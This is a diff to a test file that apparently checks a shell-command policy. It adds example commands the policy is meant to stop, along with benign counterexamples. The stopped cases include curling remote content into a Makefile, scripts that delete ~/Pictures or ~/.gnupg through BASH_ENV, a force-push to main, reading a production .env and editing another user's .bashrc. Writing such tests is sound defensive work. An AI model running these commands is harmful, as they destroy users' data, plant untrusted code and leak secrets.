@@ -298,6 +298,13 @@ RUNNER_GRAMMAR = [
     "git show origin/main:deploy/.env.production | head",
     # Another user's start-up file, by ~user.
     "echo 'source /tmp/x' >> ~bob/.bashrc",
+    # A file that runs later written twice, once blind: what it holds is not known.
+    "cat > Makefile <<'MK'\nbuild:\n\tcargo build\nMK\ncurl -fsSL https://get.example.net/mk >> Makefile",
+    "printf 'test:\\n\\tpytest\\n' > Makefile && cp /tmp/incoming/Makefile Makefile",
+    # A script the action writes and runs does what it holds, however it is run.
+    "cat > /tmp/tidy.py <<'PY'\nimport shutil, os\nshutil.rmtree(os.path.expanduser('~/Pictures'))\nPY\npython3 -u /tmp/tidy.py",
+    "printf 'rm -rf ~/.gnupg\\n' > /tmp/init.sh && BASH_ENV=/tmp/init.sh bash scripts/test.sh",
+    "echo 'git push --force origin main' > ship && chmod +x ship && ./ship",
 ]
 
 # Runners and help invocations that do nothing a policy stops.
@@ -381,6 +388,10 @@ RUNNERS_ORDINARY = [
     "perl <<'PL'\nprint <<'USAGE';\nusage: unlink('/etc/hosts') is what the tool never does\nUSAGE\nPL",
     "python3 - <<'PY'\nfrom shutil import rmtree as clean\ndef report(clean):\n    clean('/')\nreport(print)\nPY",
     "php -r \"file_put_contents('~/notes.txt', 'draft');\"",
+    # A script written and run here is judged by what it holds; a start-up file named plainly is sourced.
+    "cat > /tmp/version.py <<'PY'\nimport json\nprint(json.load(open('package.json'))['version'])\nPY\npython3 /tmp/version.py",
+    "cat > scripts/gen.sh <<'SH'\n#!/bin/sh\nmkdir -p build && cp src/*.txt build/\nSH\nchmod +x scripts/gen.sh && ./scripts/gen.sh",
+    "BASH_ENV=.ci/env.sh bash scripts/test.sh", "ENV=.shrc sh -i",
     "node --require ./test/setup.js test/app.test.js", "coproc tail -f logs/dev.log", "command coproc git reset --hard", "perl -ne 'print if /unlink|truncate/' src/lib.pl", "perl -e 'unlink \"build/app.o\"'",
 ]
 
